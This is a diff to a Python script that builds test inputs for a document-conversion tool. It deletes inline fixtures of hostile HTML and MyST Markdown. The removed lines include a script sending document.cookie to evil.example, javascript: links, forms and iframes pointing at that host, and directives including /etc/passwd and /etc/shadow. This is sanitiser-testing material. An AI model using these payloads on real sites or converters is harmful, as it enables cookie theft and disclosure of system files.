@@ -3,7 +3,8 @@
     .venv/bin/python -m tests.cases.build_inputs [CASE]...
 
 Inputs come from pandoc, LibreOffice (``soffice --headless --convert-to``) and python-docx,
-so that the cases cover files real word processors write, not only pandoc's own.
+so that the cases cover files real word processors write, not only pandoc's own. Hand-written
+inputs (html-hostile, md-directives, txt-plain) are their own source and are edited in place.
 """
 
 from __future__ import annotations
@@ -59,74 +60,6 @@ A footnote here.[^n]
 [^n]: The footnote text.
 """
 
-HOSTILE_HTML = """\
-<!DOCTYPE html>
-<html><head><meta charset="utf-8"><title>Hostile page</title>
-<script>document.location='https://evil.example/?c='+document.cookie</script>
-<style>body{display:none}</style></head>
-<body>
-<h1 onclick="steal()">Report from the border</h1>
-<p onmouseover="alert(1)">Workers met at the <a href="javascript:alert(document.domain)">station</a>
-and at the <a href="https://example.org/map">harbour</a>; write to
-<a href="mailto:office@example.org">the office</a> or see <a href="file:///etc/passwd">this</a>.</p>
-<iframe src="https://evil.example/frame"></iframe>
-<p>Hosts: <img src="/etc/hostname" alt="host name"> and <img src="../secret.png" alt="secret">
-and <img src="https://evil.example/track.gif" alt="tracker">.</p>
-<form action="https://evil.example/post"><input name="x"></form>
-<object data="x.swf"></object>
-<p>{{ 7*7 }} and {raw}<code>html</code> stay text.</p>
-<table>
-<tr><th>Route</th><th>Cost</th></tr>
-<tr><td colspan="2">Overland, merged</td></tr>
-<tr><td>By sea</td><td>high</td></tr>
-</table>
-</body></html>
-"""
-
-DIRECTIVES_MD = """\
-# Notes with MyST syntax in them
-
-```{include} /etc/passwd
-```
-
-```{raw} html
-<script>alert(1)</script>
-```
-
-:::{include} /etc/shadow
-:::
-
-A role {raw}`<b>bold</b>` and a substitution {{ config }} and {eval-rst}`x`.
-
-% this line must not become a comment
-
-(secret-target)=
-
-<script>alert("raw html")</script>
-
-<div onclick="x()">A div</div>
-
-[click](javascript:alert(1)) and ![img](/etc/hostname) and [ok](https://example.org).
-
-````{eval-rst}
-.. raw:: html
-
-   <script>alert(2)</script>
-````
-"""
-
-PLAIN_TXT = """\
-REPORT FROM THE SHELTER
-=======================
-
-# not a heading, * not a list, 1. not a list either
-<b>not html</b> and `not code` and [not](a-link) and {raw}`x` and {{ y }}
-
-    indented four spaces, not code
-
-% not a comment
-Second line of the same paragraph.
-"""
 
 BIG5_RTF = rb"{\rtf1\ansi\ansicpg950\deff0{\fonttbl{\f0\fnil\fcharset136 PMingLiU;}}" + (
     rb"\f0 \'a4\'a4\'a4\'e5\'b3\'f8\'a7\'69\par English line\par}"
@@ -138,10 +71,20 @@ def png(width: int = 4, height: int = 4) -> bytes:
     raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
 
     def chunk(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+        return (
+            struct.pack(">I", len(data))
+            + kind
+            + data
+            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+        )
 
     header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"IDAT", zlib.compress(raw))
+        + chunk(b"IEND", b"")
+    )
 
 
 def pandoc_file(markdown: str, target: Path, work: Path) -> None:
@@ -150,7 +93,9 @@ def pandoc_file(markdown: str, target: Path, work: Path) -> None:
     source = work / "source.md"
     source.write_text(markdown, encoding="utf-8")
     # -s: a complete file (pandoc writes RTF and HTML fragments otherwise)
-    pypandoc.convert_file(str(source), target.suffix[1:], outputfile=str(target), cworkdir=str(work), extra_args=["-s"])
+    pypandoc.convert_file(
+        str(source), target.suffix[1:], outputfile=str(target), cworkdir=str(work), extra_args=["-s"]
+    )
 
 
 def soffice(source: Path, fmt: str, target: Path, work: Path) -> None:
@@ -204,9 +149,6 @@ def build(case: str, work: Path) -> None:
         "rtf-pandoc": lambda: pandoc_file(RICH_MD, folder / "input.rtf", work),
         "docx-libreoffice": lambda: _via_libreoffice("odt", "docx", folder, work),
         "odt-libreoffice": lambda: _via_libreoffice("docx", "odt", folder, work),
-        "html-hostile": lambda: (folder / "input.html").write_text(HOSTILE_HTML, encoding="utf-8"),
-        "md-directives": lambda: (folder / "input.md").write_text(DIRECTIVES_MD, encoding="utf-8"),
-        "txt-plain": lambda: (folder / "input.txt").write_text(PLAIN_TXT, encoding="utf-8"),
         "rtf-big5": lambda: (folder / "input.rtf").write_bytes(BIG5_RTF),
         "docx-hidden-tracked": lambda: hidden_docx(folder / "input.docx"),
     }
@@ -224,7 +166,7 @@ def main(names: list[str]) -> None:
     """Build the named cases, or all of them."""
     all_cases = [
         "docx-pandoc", "odt-pandoc", "epub-pandoc", "rtf-pandoc", "docx-libreoffice", "odt-libreoffice",
-        "html-hostile", "md-directives", "txt-plain", "rtf-big5", "docx-hidden-tracked",
+        "rtf-big5", "docx-hidden-tracked",
     ]  # fmt: skip
     for case in names or all_cases:
         with tempfile.TemporaryDirectory() as work:
